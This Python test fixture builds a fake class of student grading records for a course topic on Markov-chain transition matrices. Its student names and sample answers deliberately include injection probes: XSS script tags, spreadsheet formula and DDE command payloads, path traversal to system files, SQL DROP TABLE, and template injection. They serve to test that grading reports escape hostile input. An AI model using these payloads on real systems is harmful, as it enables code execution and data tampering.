"""A made-up class: forty students of topic 01, with names that nobody has, and all that can become of an answer."""

from dlm_course.course.grading.records import Record, Result, Words

QUESTIONS = {"01-1-next-distribution": 1, "01-2-cumulative-matrix": 2, "01-3-marginal-by-paths": 3,
             "01-4-sample-paths": 3, "01-5-estimate-matrix": 2}
NEXT, CUMULATIVE, PATHS, SAMPLE, ESTIMATE = QUESTIONS

HOSTILE = [
    '=HYPERLINK("http://example.com/?" & A1, "click")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "con",
    "com1.html",
    "Müller, Jörg",
    "Ada Lovelace",
    "ada lovelace",
    "ADA LOVELACE",
    "very long " * 40 + "name",
    "يوسف الخوارزمي",
    "\u202egnp.exe",
    "🦊🏳️‍🌈",
    "two\nlines",
    "tab\there",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-800-555",
    "-lives with a dash",
    "   leading blanks",
    "trailing dot.",
    "null\x00byte",
    "half \\udce9 a byte",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    "王小明",
    "O'Neill; DROP TABLE students;--",
    "index",
]
PLAIN = ["anna", "ben", "chloe", "dmitri", "elif", "farid", "grace", "hiro", "ines", "jonas"]
STUDENTS = [*HOSTILE, *PLAIN]

# A known mistake, in the words of the question.
WRONG_ORDER = ("the product is in the wrong order: the first step acts first, so Q_1 stands on the right, next to x_0, "
               "and each later matrix goes to its left: Q_t ... Q_2 Q_1")
BORDER = ("right, except in a border case, T = 4, t = 0: at t = 0 nothing has happened yet, so Q_{1:0} is the identity "
          "matrix")
ENTRY = "wrong value: entry [{}, 1] is 0.{}, expected 0.25 (a drawn 3-state matrix)"

RIGHT = {
    NEXT: "# Task 01-1\ndef next_distribution(matrix, x):\n    return matrix.T[x]\n",
    CUMULATIVE: '''# Task 01-2
def cumulative_matrix(matrices, t):
    """Q_{1:t}."""
    result = torch.eye(matrices.shape[-1], dtype=matrices.dtype)
    for matrix in matrices[:t]:
        result = matrix @ result        # the first step stands on the right
    return result
''',
    PATHS: '''# Task 01-3
def marginal_by_paths(matrices, x0, t):
    num_states = matrices.shape[-1]
    probs = torch.zeros(num_states, dtype=matrices.dtype)
    for path in product(range(num_states), repeat=t):
        probability, state = 1.0, x0
        for step, following in enumerate(path):
            probability = probability * matrices[step][following, state]
            state = following
        probs[state] += probability
    return probs
''',
    SAMPLE: '''# Task 01-4
def sample_paths(matrices, x0, generator):
    path = [x0]
    for matrix in matrices:
        probs = matrix[:, path[-1]].T
        path.append(torch.multinomial(probs, 1, generator=generator).squeeze(1))
    return torch.stack(path)
''',
    ESTIMATE: '''# Task 01-5
def estimate_matrix(before, after, num_states):
    counts = torch.zeros(num_states, num_states, dtype=torch.float64)
    for j, i in zip(before.tolist(), after.tolist()):
        counts[i, j] += 1
    totals = counts.sum(0, keepdim=True)
    return torch.where(totals > 0, counts / totals.clamp(min=1), 1 / num_states)
''',
}
HOSTILE_SOURCE = '''def cumulative_matrix(matrices, t):
    """</script><script>alert("source")</script>"""
    return "<img src=x onerror=alert(2)>"    # {{ 7 * 7 }} \u202e reversed \x1b[31m
'''
COPY = '''# Task 01-3
def marginal_by_paths(matrices, x0, t):
    K = matrices.shape[-1]
    out = torch.zeros(K, dtype=matrices.dtype)
    for way in product(range(K), repeat=t):     # every way
        p, here = 1.0, x0
        for n, there in enumerate(way):
            p = p * matrices[n][there, here]
            here = there
        out[here] += p
    return out
'''
OTHER_WAY = '''# Task 01-3
def marginal_by_paths(matrices, x0, t):
    # {name}
    def walk(state, step, weight):
        if step == t:
            found[state] = found.get(state, {start}) + weight
            return
        for following in range(len(matrices[step])):
            walk(following, step + 1, weight * float(matrices[step][following, state]))
    found = dict()
    walk(int(x0), 0, {weight})
    return torch.tensor([found.get(state, {start}) for state in range(matrices.shape[-1])])
'''


def result(question, status="✓", reason="", points=None, flags=(), source=None):
    out_of = QUESTIONS[question]
    points = (out_of if status == "✓" else 0) if points is None else points
    return Result(question, points, out_of, status, reason, tuple(flags),
                  "" if status == "○" else RIGHT[question] if source is None else source)


def record(student, results=(), *, file="", problem="", notes=(), words=(), topic="01"):
    return Record(student, topic, file or f"{student}/01_single_token_chains.ipynb", "0" * 64, 3, "bubblewrap",
                  problem, tuple(notes), tuple(results), tuple(words))


def small_class():
    """Forty records in the order of their names. The stronger a student, the more is right; the last question is easy
    for all, and 01-4 is right where the others are wrong."""
    return sorted((_record(n, student) for n, student in enumerate(STUDENTS)), key=lambda record: record.student)


def _record(n, student):
    if student in ("CON", "hiro"):
        return record(student, [result(question, "○", "not attempted") for question in QUESTIONS], problem=(
            "not a notebook (JSONDecodeError: Expecting value: line 1 column 1 (char 0) <b>bold</b>); was it saved "
            "while being edited by hand?"))
    strong = n % 4
    results = [
        result(NEXT) if strong or n % 8 else result(
            NEXT, "✗", "next_distribution raised IndexError: too many indices for tensor of dimension 2 (one state)",
            source="# Task 01-1\ndef next_distribution(matrix, x):\n    return matrix[x, :, 0]\n"),
        [result(CUMULATIVE, "✗", WRONG_ORDER, source=RIGHT[CUMULATIVE].replace("matrix @ result", "result @ matrix")),
         result(CUMULATIVE, "✗", BORDER, points=1), result(CUMULATIVE), result(CUMULATIVE)][strong],
        _paths(n, student, strong),
        result(SAMPLE, "✗", "sample_paths took longer than 10 s (many tokens)", flags=["timeout"],
               source="# Task 01-4\ndef sample_paths(matrices, x0, generator):\n    while True:\n        pass\n")
        if n == 7 else result(SAMPLE) if strong < 2 else result(SAMPLE, "✗", ENTRY.format(n % 3, 10 + n)),
        result(ESTIMATE, flags=["uses dlm_course.chain"] if n == 31 else [])
        if n % 5 else result(ESTIMATE, "○", "not attempted"),
    ]
    if student.startswith("<script>"):
        results[1] = result(CUMULATIVE, "✗", "</code><script>alert('reason')</script> is no tensor",
                            source=HOSTILE_SOURCE)
    notes = ["01-2: 2 cells hold an answer; the last one that is not the stub is taken"] if n == 9 else []
    return record(student, results, notes=notes)


def _paths(n, student, strong):
    if student in ("anna", "ben", "chloe"):
        return result(PATHS, source=COPY if student == "ben" else RIGHT[PATHS])
    if not strong:
        return result(PATHS, "○", "not attempted")
    status = "✓" if strong > 1 else "✗"
    return result(PATHS, status, "" if status == "✓" else ENTRY.format(0, n),
                  source=OTHER_WAY.format(name="way", start=f"{n}.0 - {n}", weight=f"1.0 + {n} - {n}")
                  if n % 3 else f"# Task 01-3\nmarginal_by_paths = lambda *args: helper_{n}(*args)\n")


def capstone_class():
    """Two students of the capstone: answers in words, one of them hostile."""
    rubric = "| points | full | half | none |"
    texts = ["My diary, <b>210,000</b> characters.\n\n=1+1\n<script>alert('words')</script>", "YOUR ANSWER HERE"]
    return [Record(student, "10", f"{student}/10_capstone.ipynb", "0" * 64, 3, "none", results=(
        Result("10-1-leaked", 3, 3, "✓", source="def leaked(): ..."),
        Result("10-2-bits-with-error", 0, 3, "○", "not attempted")), words=tuple(
            Words(question, text, rubric, 2) for question, text in zip(("10-5-the-text", "10-6-the-number"), texts,
                                                                      strict=True)))
            for student in ("anna", "ben")]
